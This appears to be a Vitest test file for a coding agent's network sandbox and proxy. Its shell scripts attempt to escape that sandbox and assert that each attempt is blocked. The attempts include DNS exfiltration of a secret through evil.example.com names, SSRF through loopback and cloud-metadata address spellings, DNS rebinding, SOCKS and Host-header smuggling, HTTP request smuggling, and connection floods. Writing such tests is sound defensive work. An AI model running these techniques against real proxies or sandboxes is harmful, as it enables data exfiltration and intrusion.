import { createSocket, type Socket as Datagrams } from "node:dgram";
import { once } from "node:events";
import { createServer, type Socket } from "node:net";
import { networkInterfaces } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { CommandResult, Sandbox, SandboxCommand, Workspace } from "../../src/core/ports.ts";
import { helloTo, type InternetStandIn, PUBLIC, startInternet } from "../support/internet.ts";
import { makeRoot, makeSandbox, makeWorkspace } from "../support/workspace.ts";
import { openWorld, plays, type World } from "../support/world.ts";
import type { WorldRepository } from "../support/world-repository.ts";

/** What the sandboxed jobs of this file are allowed. */
const ALLOWED = ["a.example.org", "*.example.net"];
const SECRET = "c2VjcmV0LW9mLXRoZS1yZXBvc2l0b3J5";

let internet: InternetStandIn;
let sandbox: Sandbox & { stop(): Promise<void> };
let job: Workspace;
let neighbour: Workspace;
let root: string;
let removeRoot: () => Promise<void>;
/** Listens on every address of this machine, and on sockets that a job could know the names of. */
let port: number;
let datagrams: Datagrams;
let abstract: string;
/** What came in there. */
let heard: string[];
const close: (() => unknown)[] = [];

beforeAll(async () => {
  internet = await startInternet();
  const made = await makeRoot();
  ({ root, remove: removeRoot } = made);
  sandbox = makeSandbox(root, { internet });
  job = await makeWorkspace(root, "job");
  neighbour = await makeWorkspace(root, "neighbour");
  const tcp = createServer((client) => {
    heard.push("tcp");
    client.on("error", () => client.destroy());
    client.end("HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ninside");
  });
  // "::" takes IPv4 in, too, where there is IPv6.
  tcp.listen(0, hasIpv6() ? "::" : "0.0.0.0");
  await once(tcp, "listening");
  const address = tcp.address();
  port = typeof address === "object" && address !== null ? address.port : 0;
  datagrams = createSocket(hasIpv6() ? "udp6" : "udp4");
  datagrams.on("message", () => heard.push("udp"));
  datagrams.bind(port);
  await once(datagrams, "listening");
  abstract = `draftsmith-${process.pid}`;
  const unix = createServer((client) => {
    heard.push("unix");
    client.on("error", () => client.destroy());
    client.end("inside\n");
  });
  unix.listen(`\0${abstract}`);
  await once(unix, "listening");
  close.push(
    () => tcp.close(),
    () => datagrams.close(),
    () => unix.close(),
  );
});
beforeEach(() => {
  internet.forget();
  heard = [];
});
afterAll(async () => {
  for (const end of close) end();
  await sandbox.stop();
  await internet.close();
  await removeRoot();
});

function hasIpv6(): boolean {
  return Object.values(networkInterfaces()).some((each) =>
    each?.some(({ family }) => family === "IPv6"),
  );
}

/** Addresses of this machine besides loopback. */
const own = Object.values(networkInterfaces())
  .flatMap((each) => each ?? [])
  .filter(({ internal, address }) => !internal && !address.startsWith("fe80"))
  .map(({ address }) => address);

function attack(script: string, more: Partial<SandboxCommand> = {}): Promise<CommandResult> {
  return sandbox.run({
    workspace: job,
    script,
    network: ALLOWED,
    timeoutMs: 30_000,
    maxOutputBytes: 1_000_000,
    ...more,
  });
}

/** A SOCKS5 request for a.example.org:443, as printf takes it. */
const SOCKS = String.raw`\5\1\0\5\1\0\3\15a.example.org\1\273`;

/** Says these lines to the proxy, which take \r and \0 as printf does, and prints what comes back. */
const SAY = `say() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; timeout 5 cat <&3; exec 3>&-; echo; }`;

describe("from inside the sandbox", () => {
  it("network-01 connects straight to every address of the host", async () => {
    const { output } = await attack(
      `for at in "$@"; do (timeout 3 cat <"/dev/tcp/$at/${port}") 2>/dev/null; done
       curl -sg --noproxy '*' --max-time 3 "http://127.0.0.1:${port}/" "http://[::1]:${port}/"
       env -u http_proxy -u HTTP_PROXY curl -s --max-time 3 "http://localhost:${port}/"; true`,
      { args: ["127.0.0.1", "::1", "0.0.0.0", "localhost", ...own] },
    );
    expect(output).not.toContain("inside");
    expect(heard).toEqual([]);
  });

  it("network-02 sends datagrams to the host and to a resolver", async () => {
    await attack(
      `for at in "$@"; do echo ${SECRET} >"/dev/udp/$at/${port}"; done 2>/dev/null
       for at in 1.1.1.1 10.255.255.53 127.0.0.53; do echo x >"/dev/udp/$at/53"; done 2>/dev/null; true`,
      { args: ["127.0.0.1", "::1", ...own] },
    );
    // What was sent before this has arrived before it.
    const last = createSocket("udp4");
    const arrived = once(datagrams, "message");
    last.send("mark", port, "127.0.0.1");
    await arrived;
    last.close();
    expect(heard).toEqual(["udp"]);
  });

  it("network-03 asks names that carry a secret, of its own resolver and of the proxy", async () => {
    const name = `${SECRET.toLowerCase()}.evil.example.com`;
    const { output, deniedHosts } = await attack(
      `getent hosts ${name}; ping -c1 -W1 ${name} 2>&1
       node -e 'require("dns").lookup(process.argv[1], (error) => console.log(error ? "unknown" : "known"))' ${name}
       curl -s http://${name}/ https://${name}/
       curl -s -x socks5h://127.0.0.1:3128 http://${name}/; curl -s -x socks5://127.0.0.1:3128 http://${name}/; true`,
    );
    expect(output).not.toMatch(/^known$/m);
    expect(internet.looked).toEqual([]);
    expect(deniedHosts).toEqual([`${name}:443`, `${name}:80`]);
  });

  it("network-04 connects to an abstract Unix socket of the host", async () => {
    const { output } = await attack(
      `socat -t 3 - ABSTRACT-CONNECT:${abstract} </dev/null 2>&1
       perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) && connect(S, pack("Sa*", AF_UNIX, "\\0${abstract}")) && print scalar <S>'; true`,
    );
    expect(output).not.toContain("inside");
    expect(heard).toEqual([]);
  });

  it("network-05 asks the proxy for an address, in every spelling there is", async () => {
    const spellings = [
      ...[
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "017700000001",
        "0.0.0.0",
        "0",
      ],
      ...[
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[64:ff9b::7f00:1]",
      ],
      ...[
        "169.254.169.254",
        "[fd00:ec2::254]",
        "localhost",
        "127.0.0.1.",
        "１２７.0.0.1",
        "8.8.8.8",
        ...own,
      ],
    ];
    const { output } = await attack(
      `${SAY}
       for host in "$@"; do for port in 80 443 ${port}; do
         say "CONNECT $host:$port HTTP/1.1\\r\\nHost: a.example.org\\r\\nConnection: close\\r\\n\\r\\n" | head -n 1
         say "GET http://$host:$port/ HTTP/1.1\\r\\nHost: a.example.org\\r\\nConnection: close\\r\\n\\r\\n" | head -n 1
       done; done`,
      { args: spellings, timeoutMs: 90_000 },
    );
    const answers = output.match(/^HTTP\/1\.1 \d+/gm) ?? [];
    // A busy machine may cut a refusal short; what counts is that no answer is anything else.
    expect(answers.length).toBeGreaterThan(spellings.length * 5);
    expect(answers.filter((each) => !/ 40[03]$/.test(each))).toEqual([]);
    expect([internet.looked, internet.connected, heard]).toEqual([[], [], []]);
  });

  it("network-06 owns an allowed name and lets it resolve to what is not public", async () => {
    const addresses = [
      ...["127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1", "0.0.0.0", "10.0.0.1", "172.16.0.1"],
      ...[
        "192.168.0.1",
        "100.64.0.1",
        "169.254.169.254",
        "168.63.129.16",
        "224.0.0.1",
        "fd00:ec2::254",
      ],
      ...["fe80::1", "64:ff9b::7f00:1", "2002:7f00:1::1", "2001:0:7f00:1::", "::7f00:1", ...own],
    ];
    for (const [at, address] of addresses.entries()) {
      internet.answers.set(`n${at}.example.net`, [[address]]);
    }
    const names = addresses.map((_, at) => `n${at}.example.net`);
    const { output, deniedHosts } = await attack(
      `for name in "$@"; do curl -s "http://$name/"; curl -sk "https://$name/"; done; true`,
      { args: names },
    );
    expect(output.match(/not a public one/g)).toHaveLength(names.length);
    expect(internet.connected).toEqual([]);
    expect(deniedHosts).toHaveLength(20);
  });

  it("network-07 rebinds an allowed name between the check and the connection", async () => {
    const later = Array.from({ length: 20 }, (_, at) => [at % 2 ? "127.0.0.1" : PUBLIC]);
    internet.answers.set("a.example.org", [[PUBLIC, "127.0.0.1"], ["127.0.0.1", PUBLIC], ...later]);
    await attack(
      `for n in {1..8}; do curl -s http://a.example.org/; curl -sk --max-time 5 https://a.example.org/; done; true`,
    );
    expect(new Set(internet.connected)).toEqual(new Set([`${PUBLIC}:80`, `${PUBLIC}:443`]));
    // One look-up for each request: nobody could answer twice.
    expect(internet.looked).toHaveLength(16);
    expect(heard).toEqual([]);
  });

  it("network-08 hides a name from the list behind a NUL, a line end or another byte", async () => {
    const { output } = await attack(
      `socks() { exec 3<>/dev/tcp/127.0.0.1/3128
         printf '\\x05\\x01\\x00\\x05\\x01\\x00\\x03'"\\\\x$(printf %02x $2)$1"'\\x01\\xbb' >&3
         timeout 5 od -An -tx1 -N12 <&3; exec 3>&-; }
       socks 'evil.com\\x00.example.net' 21; socks 'evil.com\\r\\n.example.net' 22
       socks 'evil.com/.example.net' 21; socks 'evil.com#.example.net' 21; socks 'evil.com%%.example.net' 21
       socks 'u@evil.com:1.example.net' 24; socks 'evil.com\\xff.example.net' 21; socks '.example.net' 12
       socks 'example.net' 11; socks 'evilexample.net' 15; socks '' 0`,
    );
    const replies = output
      .trim()
      .split("\n")
      .map((line) => line.replaceAll(" ", ""));
    expect(replies).toHaveLength(11);
    expect(replies.filter((each) => !each.startsWith("05000502"))).toEqual([]);
    expect(internet.looked).toEqual([]);
  });

  it("network-09 names one host in the URL and another in its headers", async () => {
    await attack(
      `curl -s -H 'Host: evil.example.com' -H 'X-Forwarded-Host: evil.example.com' http://a.example.org/
       ${SAY}; say 'GET http://a.example.org/ HTTP/1.1\\r\\nHost: evil.example.com\\r\\nHost: evil.example.com\\r\\nConnection: host, close\\r\\n\\r\\n'`,
    );
    expect(internet.requests.length).toBeGreaterThan(0);
    expect(internet.requests.filter((each) => !each.startsWith("GET a.example.org "))).toEqual([]);
  });

  it("network-10 speaks to another host in a tunnel to port 80 of an allowed one", async () => {
    const { deniedHosts } = await attack(
      `${SAY}
       say 'CONNECT a.example.org:80 HTTP/1.1\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n'
       say 'CONNECT a.example.org:80 HTTP/1.1\\r\\n\\r\\nGET http://evil.example.com/ HTTP/1.1\\r\\nHost: a.example.org\\r\\n\\r\\n'
       say 'CONNECT a.example.org:80 HTTP/1.1\\r\\n\\r\\nSSH-2.0-evil\\r\\n\\r\\n'
       curl -s -x socks5h://127.0.0.1:3128 -H 'Host: evil.example.com' http://a.example.org/; true`,
    );
    expect(internet.requests).toEqual([]);
    expect(deniedHosts).toEqual(["evil.example.com:80"]);
  });

  it("network-11 says hello in TLS to another name behind the address of an allowed one", async () => {
    const hellos = [await helloTo("evil.example.com"), await helloTo(null)];
    const { output, deniedHosts } = await attack(
      `for hello in "$@"; do
         exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT a.example.org:443 HTTP/1.1\\r\\n\\r\\n' >&3
         base64 -d <<<"$hello" >&3; timeout 5 cat <&3; exec 3>&-
       done
       curl -sk --connect-to evil.example.com:443:a.example.org:443 https://evil.example.com/; true`,
      { args: [...hellos, Buffer.from("SSH-2.0-evil\r\n")].map((each) => each.toString("base64")) },
    );
    expect(output).not.toContain("welcome");
    expect(internet.bytes).toHaveLength(0);
    expect(deniedHosts).toEqual(["evil.example.com:443"]);
  });

  it("network-12 reaches another port of an allowed host", async () => {
    const { output, deniedHosts } = await attack(
      `${SAY}
       for port in 22 25 53 8080 65535 0 65616 70000; do say "CONNECT a.example.org:$port HTTP/1.1\\r\\n\\r\\n"; done
       curl -s http://a.example.org:22/; curl -s -x socks5h://127.0.0.1:3128 --max-time 5 telnet://a.example.org:22; true`,
    );
    expect(output).not.toMatch(/ 200 /);
    expect(internet.looked).toEqual([]);
    expect(deniedHosts).toContain("a.example.org:22");
  });

  it("network-13 makes the proxy listen or send datagrams", async () => {
    const { output } = await attack(
      `for command in 2 3 0 9; do
         exec 3<>/dev/tcp/127.0.0.1/3128
         printf '\\x05\\x01\\x00\\x05\\x0'$command'\\x00\\x03\\x0da.example.org\\x01\\xbb' >&3
         timeout 5 od -An -tx1 -N4 <&3; exec 3>&-
       done`,
    );
    expect(output.trim().split(/\n\s*/)).toEqual(Array(4).fill("05 00 05 07"));
    expect(internet.connected).toEqual([]);
  });

  it("network-14 uses what a neighbour at work is allowed", async () => {
    const busy = sandbox.run({
      workspace: neighbour,
      script: `echo begun >at-work; until [ -e stop ]; do sleep 0.05; done; curl -s http://b.example.com/`,
      network: ["b.example.com"],
      timeoutMs: 30_000,
      maxOutputBytes: 1000,
    });
    const { output, deniedHosts } = await attack(
      `for n in {1..20}; do curl -s http://b.example.com/; done
       find /dev /run /tmp /home /var -type s 2>/dev/null; ls -la ${path.join(root, "runtime")} 2>&1
       for user in srt draftsmith neighbour; do curl -s -x "http://$user:x@127.0.0.1:3128" http://b.example.com/; done; true`,
    );
    await sandbox.run({
      workspace: neighbour,
      script: "touch stop",
      timeoutMs: 30_000,
      maxOutputBytes: 1000,
    });
    const theirs = await busy;
    expect(theirs.output).toBe("hello\n");
    expect(theirs.deniedHosts).toEqual([]);
    expect(output).not.toContain("hello");
    expect(output).not.toMatch(/outlets-/);
    expect(internet.requests).toEqual(["GET b.example.com /"]);
    expect(deniedHosts).toEqual(["b.example.com:80"]);
  });

  it("network-15 smuggles a second request behind an allowed one", async () => {
    const inner = "GET /smuggled HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n";
    await attack(
      `${SAY}
       say 'GET http://a.example.org/ HTTP/1.1\\r\\nHost: a.example.org\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n32\\r\\n${inner}\\r\\n0\\r\\n\\r\\n'
       say 'POST http://a.example.org/ HTTP/1.1\\r\\nHost: a.example.org\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n0\\r\\n\\r\\n${inner}'
       say 'GET http://a.example.org/%%0d%%0aHost:%%20evil.example.com HTTP/1.1\\r\\nHost: a.example.org\\r\\nConnection: close\\r\\n\\r\\n'
       say 'GET http://a.example.org/ HTTP/1.1\\r\\nHost: a.example.org\\r\\nContent-Length: 5\\r\\n\\r\\nhello${inner}'`,
    );
    // It stays what it was: the body of the first.
    expect(internet.requests[0]).toContain("GET a.example.org / GET /smuggled");
    expect(internet.requests.filter((each) => !/^\w+ a\.example\.org \//.test(each))).toEqual([]);
    expect(internet.requests.filter((each) => /^\w+ \S+ \/smuggled/.test(each))).toEqual([]);
  });

  it("network-16 floods the evidence with names that are markup, endless and many", async () => {
    const { deniedHosts } = await attack(
      `${SAY}
       say "CONNECT @ada\\\`|<!--x-->[x](http://evil):80 HTTP/1.1\\r\\n\\r\\n" >/dev/null
       say "CONNECT $(printf 'x%%.0s' {1..4000}):80 HTTP/1.1\\r\\n\\r\\n" >/dev/null
       for n in {1..60}; do say "CONNECT h$n.evil.example.com:443 HTTP/1.1\\r\\n\\r\\n" >/dev/null; done`,
    );
    expect(deniedHosts).toHaveLength(20);
    for (const host of deniedHosts) expect(host).toMatch(/^[a-z0-9_.:[\]?…-]{1,110}$/);
  });

  it("network-17 opens more connections to the proxy than the server could bear", async () => {
    const { output } = await attack(
      `ulimit -n 4096; open=()
       for n in {1..400}; do exec {fd}<>/dev/tcp/127.0.0.1/3128 && open+=("$fd"); done 2>/dev/null
       for n in {1..40}; do
         sleep 0.25; kept=0
         for fd in "\${open[@]}"; do read -t 0 -u "$fd" || kept=$((kept + 1)); done
         [ $kept -gt 256 ] || break
       done
       echo "opened \${#open[@]} kept $kept"`,
    );
    const [, opened = 0, kept = 0] = /opened (\d+) kept (\d+)/.exec(output)?.map(Number) ?? [];
    expect(opened).toBe(400);
    expect(kept).toBeLessThanOrEqual(256);
    const other = await attack("curl -s http://a.example.org/", { workspace: neighbour });
    expect(other.output).toBe("hello\n");
  });

  it("network-22 sends requests without end on one connection, before any answer", async () => {
    // Nothing is answered, so each request that goes through keeps its connection.
    internet.answer = () => undefined;
    const { output } = await attack(
      `exec 3<>/dev/tcp/127.0.0.1/3128
       request='GET http://a.example.org/ HTTP/1.1\\r\\nHost: a.example.org\\r\\n\\r\\n'
       for n in {1..500}; do all+=$request; done
       printf "$all" >&3; timeout 2 cat <&3; echo sent`,
    );
    expect(output).toContain("sent");
    expect(internet.connected.length).toBeLessThanOrEqual(1);
  });

  it("network-24 takes the length off a request, so that its body is a second one", async () => {
    const second = "GET /second HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n";
    for (const own of ["content-length", "close, Content-Length"]) {
      await attack(
        `${SAY}
         say 'GET http://a.example.org/first HTTP/1.1\\r\\nHost: a.example.org\\r\\nContent-Length: 48\\r\\nConnection: ${own}\\r\\n\\r\\n${second}'`,
      );
    }
    // It stays what it was: the body of the first.
    expect(internet.requests).toHaveLength(2);
    for (const each of internet.requests) {
      expect(each).toMatch(/^GET a\.example\.org \/first GET \/second/);
    }
  });

  it("network-23 ends while the server connects for it, again and again", async () => {
    const { connect } = internet;
    const reached = Promise.withResolvers<void>();
    const opened: Socket[] = [];
    internet.connect = async (addresses, port) => {
      await reached.promise;
      const socket = await connect(addresses, port);
      opened.push(socket);
      return socket;
    };
    try {
      await attack(
        `for n in {1..20}; do
           exec {fd}<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT a.example.org:443 HTTP/1.1\\r\\n\\r\\n' >&$fd
           exec {fd}<>/dev/tcp/127.0.0.1/3128; printf "$1" >&$fd
         done; sleep 0.5`,
        { args: [SOCKS] },
      );
    } finally {
      reached.resolve();
      internet.connect = connect;
    }
    await expect.poll(() => opened.length).toBe(40);
    await expect.poll(() => opened.filter((socket) => !socket.destroyed)).toEqual([]);
  });
});

describe("through the whole product", () => {
  let world: World;
  let end: () => Promise<void>;
  const hosts = (section: string) => section.match(/`[a-z0-9.-]+:\d+`/g);

  beforeAll(async () => {
    ({ world, end } = await openWorld({
      config: [
        "setup: ['curl -sS http://setup.example.com/ || true']",
        "checks: ['curl -sS https://check.example.com/ || true', 'true']",
        "network: [packages.example.org]",
      ].join("\n"),
      env: { DRAFTSMITH_NETWORK: "packages.example.org *.cdn.example.org" },
      repositories: {
        wide: {
          config: [
            "network:",
            ...["*.com", "*.co.uk", "'*.github.io'", "'*.amazonaws.com'", "127.0.0.1", "localhost"],
            ...["metadata.internal", "2130706433", "'[::1]'", "'*'", "co.uk", "пример.рф"],
          ].reduce(
            (text, line) =>
              `${text}${text && `\n  - ${line.startsWith("*") ? `'${line}'` : line}`}` || line,
            "",
          ),
        },
        greedy: { config: "network: [packages.example.org, evil.example.com, '*.example.org']" },
        stuck: { config: "setup: ['curl -sSf https://registry.example.net/x']" },
      },
      model: plays({
        "write a": {
          calls: [
            { name: "shell", arguments: { command: "curl -sS http://agent.example.com/; true" } },
            { name: "write", arguments: { path: "a.txt", content: "a\n" } },
          ],
          report: "Write a\n\nAs asked.",
        },
      }),
    }));
  }, 60_000);
  afterAll(() => end());

  /** The first comment on an issue, once it is there. */
  async function answerIn(repository: WorldRepository): Promise<string> {
    const there = Promise.withResolvers<string>();
    const look = () => {
      const [first] = repository.answers();
      if (first) there.resolve(first.body);
    };
    const stop = world.github.onChange(look);
    look();
    return there.promise.finally(stop);
  }

  it("network-18 hides what it tried to reach from the people who read the pull request", async () => {
    await world.say("/codex write a");
    await world.ended();
    const [pull] = world.pulls();
    const body = pull ? world.pullBody(pull) : "";
    const table = body.slice(body.indexOf("| Refused host |"));
    expect(hosts(table)).toEqual([
      "`check.example.com:443`",
      "`agent.example.com:80`",
      "`setup.example.com:80`",
    ]);
    expect(table).toMatch(
      /`check\.example\.com:443` \| <code>curl .*<\/code> \| to allow it, add it under `network:`/,
    );
    const told = JSON.stringify(world.model.requests.at(-1)?.body.messages ?? []);
    expect(told).toContain("[network: refused agent.example.com:80");
  });

  it("network-19 leaves a setup that failed for want of a host without a word on why", async () => {
    const stuck = world.at("stuck");
    await stuck.say("/codex write a");
    expect(await stuck.ended()).toMatch(
      /❌ failed.*tried to reach registry\.example\.net:443 \(to allow it, add it under .*network:/s,
    );
    expect(stuck.pulls()).toEqual([]);
  });

  it("network-20 allows what anybody could stand behind, in a configuration", async () => {
    const wide = world.at("wide");
    await wide.say("/codex write a");
    const answer = await answerIn(wide);
    const lines = answer.match(/^- line \d+: .*$/gm) ?? [];
    expect(lines.map((line) => line.replace(/^- line (\d+):.*/, "$1"))).toEqual(
      Array.from({ length: 12 }, (_, at) => String(at + 2)),
    );
    expect(wide.pulls()).toEqual([]);
  });

  it("network-21 allows what the operator of the server does not", async () => {
    const greedy = world.at("greedy");
    await greedy.say("/codex write a");
    const answer = await answerIn(greedy);
    expect(answer).toMatch(/entry 2 of `network` is `evil\.example\.com`.*DRAFTSMITH_NETWORK/);
    expect(answer).toMatch(/entry 3 of `network` is `\*\.example\.org`/);
    expect(answer).not.toContain("entry 1 of");
    expect(greedy.pulls()).toEqual([]);
  });
});
